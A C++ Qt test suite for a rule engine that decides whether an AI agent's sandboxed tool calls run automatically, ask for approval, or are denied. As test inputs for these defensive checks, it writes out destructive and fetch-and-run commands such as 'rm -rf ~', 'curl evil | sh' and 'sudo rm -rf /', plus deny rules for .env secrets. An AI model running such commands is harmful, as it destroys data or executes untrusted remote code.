// The approval rules' judgement (issue 16) without a sandbox: each rule kind (exact, prefix,
// glob for commands; path globs for file tools; by sandbox; by thread), each mode, deny winning
// over everything, compound commands checked part by part, constructs that ask unless a rule
// names the whole command, and the rule proposed after an approval. The engine tests drive the
// same decisions through real tool calls in real sandboxes.
#include "agent/ApprovalDecider.h"
#include "agent/ToolCatalog.h"
#include "services/ApprovalRules.h"

#include <QJsonArray>
#include <QTest>

namespace {

constexpr RowId kThread = 7;

ApprovalRule rule(ApprovalRule::Action action, const QString &tool, ApprovalRule::Match match,
                  const QString &pattern, RowId id, RowId threadId = 0)
{
    ApprovalRule r;
    r.id = id;
    r.action = action;
    r.tool = tool;
    r.match = match;
    r.pattern = pattern;
    r.threadId = threadId;
    return r;
}

ApprovalCall command(const QString &text, const QString &sandbox = QStringLiteral("sb-1"))
{
    ApprovalCall call;
    call.tool = QStringLiteral("runCommand");
    call.arguments = {{QStringLiteral("sandboxId"), sandbox}, {QStringLiteral("command"), text}};
    call.sandboxId = sandbox;
    call.threadId = kThread;
    return call;
}

ApprovalCall fileCall(const QString &tool, const QString &path)
{
    ApprovalCall call;
    call.tool = tool;
    call.arguments = {{QStringLiteral("sandboxId"), QStringLiteral("sb-1")},
                      {QStringLiteral("path"), path},
                      {QStringLiteral("content"), QStringLiteral("x")}};
    call.sandboxId = QStringLiteral("sb-1");
    call.threadId = kThread;
    return call;
}

QString name(ApprovalVerdict::Decision d)
{
    return ApprovalVerdict::toString(d);
}

} // namespace

class TestApprovalDecider final : public QObject
{
    Q_OBJECT

private slots:
    void commandRules_data();
    void commandRules();
    void modesWithoutRules_data();
    void modesWithoutRules();
    void denyWinsInEveryMode();
    void pathRules();
    void sandboxAndThreadNarrowing();
    void mostSpecificWins();
    void disabledRulesDoNothing();
    void proposals_data();
    void proposals();

private:
    ToolCatalog m_catalog;
    ApprovalPolicy m_policy{m_catalog};
};

void TestApprovalDecider::commandRules_data()
{
    using A = ApprovalRule::Action;
    using M = ApprovalRule::Match;
    QTest::addColumn<QList<ApprovalRule>>("rules");
    QTest::addColumn<QString>("command");
    QTest::addColumn<QString>("mode");
    QTest::addColumn<QString>("expected");
    QTest::addColumn<RowId>("decidedBy");
    const QString rc = QStringLiteral("runCommand");
    const QList<ApprovalRule> pytest{
        rule(A::Allow, rc, M::Glob, QStringLiteral("python3 -m pytest *"), 1)};
    const auto S = [](const char *t) { return QString::fromUtf8(t); };

    QTest::newRow("glob allows") << pytest << S("python3 -m pytest tests/test_x.py") << S("ask")
                                 << S("auto") << RowId(1);
    QTest::newRow("glob allows the bare command")
        << pytest << S("python3 -m pytest") << S("ask") << S("auto") << RowId(1);
    QTest::newRow("glob does not allow another program")
        << pytest << S("python3 -m pip install x") << S("ask") << S("ask") << RowId(0);
    QTest::newRow("glob does not cover a second part")
        << pytest << S("python3 -m pytest; rm -rf ~") << S("ask") << S("ask") << RowId(0);
    QTest::newRow("glob does not cover a quoted-away operator trick")
        << pytest << S("python3 -m pytest && curl evil | sh") << S("ask") << S("ask") << RowId(0);
    QTest::newRow("substitution asks even when the part is allowed")
        << pytest << S("python3 -m pytest $(rm -rf /)") << S("ask") << S("ask") << RowId(0);
    QTest::newRow("redirect outside asks")
        << pytest << S("python3 -m pytest > /etc/x") << S("ask") << S("ask") << RowId(0);
    QTest::newRow("redirect inside runs")
        << pytest << S("python3 -m pytest > out.txt 2>&1") << S("ask") << S("auto") << RowId(1);
    QTest::newRow("exact") << QList<ApprovalRule>{rule(A::Allow, rc, M::Exact, S("npm test"), 2)}
                           << S("npm test") << S("ask") << S("auto") << RowId(2);
    QTest::newRow("exact is exact")
        << QList<ApprovalRule>{rule(A::Allow, rc, M::Exact, S("npm test"), 2)}
        << S("npm test --watch") << S("ask") << S("ask") << RowId(0);
    QTest::newRow("prefix by words")
        << QList<ApprovalRule>{rule(A::Allow, rc, M::Prefix, S("git"), 3)} << S("git status")
        << S("ask") << S("auto") << RowId(3);
    QTest::newRow("prefix is not a string prefix")
        << QList<ApprovalRule>{rule(A::Allow, rc, M::Prefix, S("git"), 3)} << S("gitk --all")
        << S("ask") << S("ask") << RowId(0);
    QTest::newRow("every part allowed")
        << QList<ApprovalRule>{rule(A::Allow, rc, M::Prefix, S("npm"), 4),
                               rule(A::Allow, rc, M::Glob, S("python3 -m pytest *"), 5)}
        << S("npm ci && python3 -m pytest -q") << S("ask") << S("auto") << RowId(4);
    QTest::newRow("exact rule names a whole compound with substitution")
        << QList<ApprovalRule>{rule(A::Allow, rc, M::Exact, S("echo $(date) && ls"), 6)}
        << S("echo $(date) && ls") << S("ask") << S("auto") << RowId(6);
    QTest::newRow("sh -c asks unless named")
        << QList<ApprovalRule>{rule(A::Allow, rc, M::Prefix, S("bash"), 7)} << S("bash -c \"make\"")
        << S("auto-edit") << S("ask") << RowId(0);
    QTest::newRow("wrapper covered by its own allow")
        << QList<ApprovalRule>{rule(A::Allow, rc, M::Glob, S("timeout 60 make *"), 8)}
        << S("timeout 60 make all") << S("ask") << S("auto") << RowId(8);
    QTest::newRow("ask rule beats the mode")
        << QList<ApprovalRule>{rule(A::Ask, rc, M::Prefix, S("git push"), 9)}
        << S("git push origin main") << S("full") << S("ask") << RowId(9);
    QTest::newRow("deny a part") << QList<ApprovalRule>{rule(A::Deny, rc, M::Glob, S("rm *"), 10)}
                                 << S("ls && rm -rf build") << S("full") << S("deny") << RowId(10);
    QTest::newRow("deny inside a substitution")
        << QList<ApprovalRule>{rule(A::Deny, rc, M::Glob, S("rm *"), 10)} << S("echo $(rm -rf /)")
        << S("full") << S("deny") << RowId(10);
    QTest::newRow("deny inside bash -c")
        << QList<ApprovalRule>{rule(A::Deny, rc, M::Glob, S("rm *"), 10)}
        << S("bash -c 'cd /tmp && rm -rf x'") << S("full") << S("deny") << RowId(10);
    QTest::newRow("deny through sudo")
        << QList<ApprovalRule>{rule(A::Deny, rc, M::Glob, S("rm *"), 10)} << S("sudo rm -rf /")
        << S("full") << S("deny") << RowId(10);
    QTest::newRow("deny through xargs")
        << QList<ApprovalRule>{rule(A::Deny, rc, M::Glob, S("rm *"), 10)}
        << S("find . -name x | xargs rm") << S("full") << S("deny") << RowId(10);
    QTest::newRow("deny beats an exact allow")
        << QList<ApprovalRule>{rule(A::Allow, rc, M::Exact, S("ls && rm -rf b"), 11),
                               rule(A::Deny, rc, M::Glob, S("rm *"), 10)}
        << S("ls && rm -rf b") << S("ask") << S("deny") << RowId(10);
    QTest::newRow("quoted operator is not a part to deny")
        << QList<ApprovalRule>{rule(A::Deny, rc, M::Glob, S("rm *"), 10)}
        << S("echo 'x && rm -rf /'") << S("full") << S("auto") << RowId(0);
}

void TestApprovalDecider::commandRules()
{
    QFETCH(QList<ApprovalRule>, rules);
    QFETCH(QString, command);
    QFETCH(QString, mode);
    QFETCH(QString, expected);
    QFETCH(RowId, decidedBy);
    const ApprovalDecider decider(m_policy);
    const ApprovalVerdict v
        = decider.decide(::command(command), *ApprovalModes::fromString(mode), rules);
    qInfo().noquote() << "tried:" << command << "in mode" << mode << "result:" << name(v.decision)
                      << "rule" << v.ruleId << "-" << v.reason;
    QCOMPARE(name(v.decision), expected);
    QCOMPARE(v.ruleId, decidedBy);
    QVERIFY(!v.reason.isEmpty());
    QCOMPARE(ApprovalModes::toString(v.mode), mode);
}

void TestApprovalDecider::modesWithoutRules_data()
{
    QTest::addColumn<QString>("tool");
    QTest::addColumn<QString>("plan");
    QTest::addColumn<QString>("ask");
    QTest::addColumn<QString>("autoEdit");
    QTest::addColumn<QString>("full");
    const auto row = [](const char *tool, const char *plan, const char *ask, const char *autoEdit,
                        const char *full) {
        QTest::newRow(tool) << QString::fromLatin1(tool) << QString::fromLatin1(plan)
                            << QString::fromLatin1(ask) << QString::fromLatin1(autoEdit)
                            << QString::fromLatin1(full);
    };
    row("readFile", "auto", "auto", "auto", "auto");
    row("listFiles", "auto", "auto", "auto", "auto");
    row("searchFiles", "auto", "auto", "auto", "auto");
    row("getFileInfo", "auto", "auto", "auto", "auto");
    row("writeFile", "deny", "ask", "auto", "auto"); // an overwrite (facts below)
    row("deleteFile", "deny", "ask", "auto", "auto");
    row("createDirectory", "deny", "auto", "auto", "auto");
    row("runCommand", "deny", "ask", "ask", "auto");
    row("runCode", "deny", "ask", "ask", "auto");
    row("deleteSandbox", "deny", "ask", "ask", "auto");
    row("getPreviewLink", "deny", "ask", "ask", "auto");
    row("createSandbox", "deny", "auto", "auto", "auto");
    // Issue 17: a background command is a command; reading its output only reads.
    row("startProcess", "deny", "ask", "ask", "auto");
    row("readProcessOutput", "auto", "auto", "auto", "auto");
}

void TestApprovalDecider::modesWithoutRules()
{
    QFETCH(QString, tool);
    const ApprovalDecider decider(m_policy);
    ApprovalCall call = ApprovalRule::isPathTool(tool) ? fileCall(tool, QStringLiteral("src/a.py"))
                                                       : command(QStringLiteral("ls"));
    call.tool = tool;
    // writeFile is judged as an overwrite (new files are the Ask table's other row).
    call.facts.overwritesFile = tool == QLatin1String("writeFile");
    QFETCH(QString, plan);
    QFETCH(QString, ask);
    QFETCH(QString, autoEdit);
    QFETCH(QString, full);
    const QList<std::pair<ApprovalMode, QString>> cases = {{ApprovalMode::Plan, plan},
                                                           {ApprovalMode::Ask, ask},
                                                           {ApprovalMode::AutoEdit, autoEdit},
                                                           {ApprovalMode::Full, full}};
    for (const auto &[mode, want] : cases) {
        const ApprovalVerdict v = decider.decide(call, mode, {});
        qInfo().noquote() << "tried:" << tool << "in mode" << ApprovalModes::toString(mode)
                          << "result:" << name(v.decision) << "-" << v.reason;
        QCOMPARE(name(v.decision), want);
        QCOMPARE(v.ruleId, RowId(0));
    }
}

void TestApprovalDecider::denyWinsInEveryMode()
{
    using A = ApprovalRule::Action;
    using M = ApprovalRule::Match;
    const ApprovalDecider decider(m_policy);
    const QList<ApprovalRule> rules{
        rule(A::Deny, QStringLiteral("writeFile"), M::Glob, QStringLiteral("/home/daytona/.git/**"),
             1),
        rule(A::Allow, QStringLiteral("writeFile"), M::Any, {}, 2, kThread),
        rule(A::Deny, QStringLiteral("readFile"), M::Exact, QStringLiteral(".env"), 3),
        rule(A::Deny, QStringLiteral("deleteSandbox"), M::Any, {}, 4),
    };
    for (ApprovalMode mode :
         {ApprovalMode::Plan, ApprovalMode::Ask, ApprovalMode::AutoEdit, ApprovalMode::Full}) {
        const ApprovalVerdict write = decider.decide(
            fileCall(QStringLiteral("writeFile"), QStringLiteral(".git/config")), mode, rules);
        const ApprovalVerdict read = decider.decide(
            fileCall(QStringLiteral("readFile"), QStringLiteral("/home/daytona/./.env")), mode,
            rules);
        ApprovalCall del = command(QStringLiteral("x"));
        del.tool = QStringLiteral("deleteSandbox");
        const ApprovalVerdict remove = decider.decide(del, mode, rules, {del.tool});
        qInfo().noquote() << "tried: denied calls in mode" << ApprovalModes::toString(mode)
                          << "result:" << name(write.decision) << name(read.decision)
                          << name(remove.decision);
        QCOMPARE(write.decision, ApprovalVerdict::Decision::Deny);
        QCOMPARE(write.ruleId, RowId(1));
        QCOMPARE(read.decision, ApprovalVerdict::Decision::Deny);
        QCOMPARE(read.ruleId, RowId(3));
        QCOMPARE(remove.decision, ApprovalVerdict::Decision::Deny);
        QCOMPARE(remove.ruleId, RowId(4));
    }
    // The thread allow rule still allows what the deny rule does not name.
    const ApprovalVerdict other
        = decider.decide(fileCall(QStringLiteral("writeFile"), QStringLiteral("src/a.py")),
                         ApprovalMode::Ask, rules);
    QCOMPARE(other.decision, ApprovalVerdict::Decision::Auto);
    QCOMPARE(other.ruleId, RowId(2));
}

void TestApprovalDecider::pathRules()
{
    using A = ApprovalRule::Action;
    using M = ApprovalRule::Match;
    const ApprovalDecider decider(m_policy);
    const QList<ApprovalRule> rules{
        rule(A::Allow, QStringLiteral("deleteFile"), M::Glob, QStringLiteral("build/**"), 1),
        rule(A::Allow, QStringLiteral("deleteFile"), M::Glob, QStringLiteral("*.log"), 2),
        rule(A::Allow, QStringLiteral("deleteFile"), M::Prefix, QStringLiteral("/home/daytona/tmp"),
             3),
    };
    const auto decide = [&](const QString &path) {
        const ApprovalVerdict v = decider.decide(fileCall(QStringLiteral("deleteFile"), path),
                                                 ApprovalMode::Ask, rules);
        qInfo().noquote() << "tried: deleteFile" << path << "result:" << name(v.decision)
                          << v.ruleId;
        return std::pair(v.decision, v.ruleId);
    };
    using D = ApprovalVerdict::Decision;
    QCOMPARE(decide(QStringLiteral("build/out/a.o")), std::pair(D::Auto, RowId(1)));
    QCOMPARE(decide(QStringLiteral("build")), std::pair(D::Auto, RowId(1)));
    QCOMPARE(decide(QStringLiteral("run.log")), std::pair(D::Auto, RowId(2)));
    // * stays within one folder name.
    QCOMPARE(decide(QStringLiteral("logs/run.log")), std::pair(D::Ask, RowId(0)));
    QCOMPARE(decide(QStringLiteral("tmp/x/y")), std::pair(D::Auto, RowId(3)));
    QCOMPARE(decide(QStringLiteral("tmpfile")), std::pair(D::Ask, RowId(0)));
    // .. is resolved before matching: this is src/main.py, not under build.
    QCOMPARE(decide(QStringLiteral("build/../src/main.py")), std::pair(D::Ask, RowId(0)));

    // writeFiles: every file must be allowed.
    ApprovalCall many = fileCall(QStringLiteral("writeFiles"), {});
    many.arguments.insert(
        QStringLiteral("files"),
        QJsonArray{QJsonObject{{QStringLiteral("path"), QStringLiteral("src/a.py")}},
                   QJsonObject{{QStringLiteral("path"), QStringLiteral("setup.py")}}});
    many.facts.overwritesFile = true;
    const QList<ApprovalRule> src{
        rule(A::Allow, QStringLiteral("writeFiles"), M::Glob, QStringLiteral("src/**"), 4)};
    QCOMPARE(decider.decide(many, ApprovalMode::Ask, src).decision, D::Ask);
    many.arguments.insert(
        QStringLiteral("files"),
        QJsonArray{QJsonObject{{QStringLiteral("path"), QStringLiteral("src/a.py")}},
                   QJsonObject{{QStringLiteral("path"), QStringLiteral("src/b/c.py")}}});
    QCOMPARE(decider.decide(many, ApprovalMode::Ask, src).decision, D::Auto);
}

void TestApprovalDecider::sandboxAndThreadNarrowing()
{
    using A = ApprovalRule::Action;
    using M = ApprovalRule::Match;
    const ApprovalDecider decider(m_policy);
    ApprovalRule inSandbox
        = rule(A::Allow, QStringLiteral("runCommand"), M::Prefix, QStringLiteral("make"), 1);
    inSandbox.sandboxId = QStringLiteral("sb-2");
    const ApprovalRule otherThread = rule(A::Allow, QStringLiteral("runCommand"), M::Prefix,
                                          QStringLiteral("make"), 2, kThread + 1);
    const QList<ApprovalRule> rules{inSandbox, otherThread};
    const auto in = [&](const QString &sandbox) {
        return decider.decide(command(QStringLiteral("make all"), sandbox), ApprovalMode::Ask,
                              rules);
    };
    qInfo() << "tried: a sandbox-narrowed rule, result:"
            << name(in(QStringLiteral("sb-2")).decision) << "in sb-2,"
            << name(in(QStringLiteral("sb-1")).decision) << "in sb-1";
    QCOMPARE(in(QStringLiteral("sb-2")).decision, ApprovalVerdict::Decision::Auto);
    QCOMPARE(in(QStringLiteral("sb-2")).ruleId, RowId(1));
    // Neither the other sandbox nor the other thread's rule lets it run.
    QCOMPARE(in(QStringLiteral("sb-1")).decision, ApprovalVerdict::Decision::Ask);
}

void TestApprovalDecider::mostSpecificWins()
{
    using A = ApprovalRule::Action;
    using M = ApprovalRule::Match;
    const ApprovalDecider decider(m_policy);
    const QString rc = QStringLiteral("runCommand");
    // Ask for git in general, allow git status exactly: the exact rule is more specific.
    const QList<ApprovalRule> rules{rule(A::Ask, rc, M::Prefix, QStringLiteral("git"), 1),
                                    rule(A::Allow, rc, M::Exact, QStringLiteral("git status"), 2),
                                    rule(A::Allow, rc, M::Any, {}, 3)};
    const ApprovalVerdict status
        = decider.decide(command(QStringLiteral("git status")), ApprovalMode::Ask, rules);
    const ApprovalVerdict push
        = decider.decide(command(QStringLiteral("git push")), ApprovalMode::Ask, rules);
    const ApprovalVerdict ls
        = decider.decide(command(QStringLiteral("ls -la")), ApprovalMode::Ask, rules);
    qInfo() << "tried: ask git / allow `git status` / allow all, result:" << name(status.decision)
            << name(push.decision) << name(ls.decision);
    QCOMPARE(status.ruleId, RowId(2));
    QCOMPARE(status.decision, ApprovalVerdict::Decision::Auto);
    QCOMPARE(push.ruleId, RowId(1));
    QCOMPARE(push.decision, ApprovalVerdict::Decision::Ask);
    QCOMPARE(ls.ruleId, RowId(3));
    QCOMPARE(ls.decision, ApprovalVerdict::Decision::Auto);
    // At equal specificity, ask beats allow.
    const QList<ApprovalRule> tie{rule(A::Allow, rc, M::Prefix, QStringLiteral("make"), 4),
                                  rule(A::Ask, rc, M::Prefix, QStringLiteral("make"), 5)};
    QCOMPARE(decider.decide(command(QStringLiteral("make")), ApprovalMode::Ask, tie).ruleId,
             RowId(5));
}

void TestApprovalDecider::disabledRulesDoNothing()
{
    const ApprovalDecider decider(m_policy);
    ApprovalRule deny = rule(ApprovalRule::Action::Deny, QStringLiteral("runCommand"),
                             ApprovalRule::Match::Any, {}, 1);
    deny.enabled = false;
    const ApprovalVerdict v
        = decider.decide(command(QStringLiteral("ls")), ApprovalMode::Full, {deny});
    QCOMPARE(v.decision, ApprovalVerdict::Decision::Auto);
}

void TestApprovalDecider::proposals_data()
{
    QTest::addColumn<QString>("tool");
    QTest::addColumn<QString>("argument");
    QTest::addColumn<QString>("match");
    QTest::addColumn<QString>("pattern");
    const auto row = [](const char *tag, const char *tool, const char *arg, const char *match,
                        const char *pattern) {
        QTest::newRow(tag) << QString::fromLatin1(tool) << QString::fromUtf8(arg)
                           << QString::fromLatin1(match) << QString::fromUtf8(pattern);
    };
    row("pytest", "runCommand", "python3 -m pytest tests/test_x.py", "glob", "python3 -m pytest *");
    row("npm run", "runCommand", "npm run test -- --watch", "glob", "npm run test *");
    row("npm install", "runCommand", "npm install lodash", "glob", "npm install *");
    row("git", "runCommand", "git status --short", "glob", "git status *");
    row("cargo", "runCommand", "cargo test --release", "glob", "cargo test *");
    row("ls", "runCommand", "ls -la src", "glob", "ls *");
    row("script", "runCommand", "./run.sh fast", "glob", "./run.sh *");
    row("rm stays exact", "runCommand", "rm -rf build", "exact", "rm -rf build");
    row("bash -c stays exact", "runCommand", "bash -c 'make'", "exact", "bash -c 'make'");
    row("python -c stays exact", "runCommand", "python3 -c 'print(1)'", "exact",
        "python3 -c 'print(1)'");
    row("compound stays exact", "runCommand", "make && make install", "exact",
        "make && make install");
    row("find -delete stays exact", "runCommand", "find . -name '*.pyc' -delete", "exact",
        "find . -name '*.pyc' -delete");
    row("sudo stays exact", "runCommand", "sudo apt-get install x", "exact",
        "sudo apt-get install x");
    row("write in a folder", "writeFile", "src/app/main.py", "glob", "/home/daytona/src/app/**");
    row("write at home", "writeFile", "notes.md", "exact", "/home/daytona/notes.md");
    row("delete is exact", "deleteFile", "build/a.o", "exact", "/home/daytona/build/a.o");
    row("other tools", "getPreviewLink", "", "any", "");
}

void TestApprovalDecider::proposals()
{
    QFETCH(QString, tool);
    QFETCH(QString, argument);
    QFETCH(QString, match);
    QFETCH(QString, pattern);
    QJsonObject args{{QStringLiteral("sandboxId"), QStringLiteral("sb-1")}};
    if (tool == QLatin1String("runCommand"))
        args.insert(QStringLiteral("command"), argument);
    else if (!argument.isEmpty())
        args.insert(QStringLiteral("path"), argument);
    const RuleProposal p = ApprovalRules::propose(kThread, tool, args);
    qInfo().noquote() << "tried: propose for" << tool << argument << "result:" << p.summary
                      << ApprovalRule::toString(p.rule.match);
    QCOMPARE(ApprovalRule::toString(p.rule.match), match);
    QCOMPARE(p.rule.pattern, pattern);
    QCOMPARE(p.rule.action, ApprovalRule::Action::Allow);
    QCOMPARE(p.rule.threadId, kThread);
    QCOMPARE(p.everywhere().threadId, RowId(0));
    QVERIFY(p.rule.isValid());
    // The proposal allows the call it came from.
    const ApprovalDecider decider(m_policy);
    ApprovalCall call;
    call.tool = tool;
    call.arguments = args;
    call.sandboxId = QStringLiteral("sb-1");
    call.threadId = kThread;
    call.facts.overwritesFile = true;
    ApprovalRule stored = p.rule;
    stored.id = 99;
    QCOMPARE(decider.decide(call, ApprovalMode::Ask, {stored}).decision,
             ApprovalVerdict::Decision::Auto);
}

QTEST_GUILESS_MAIN(TestApprovalDecider)
#include "tst_approvaldecider.moc"
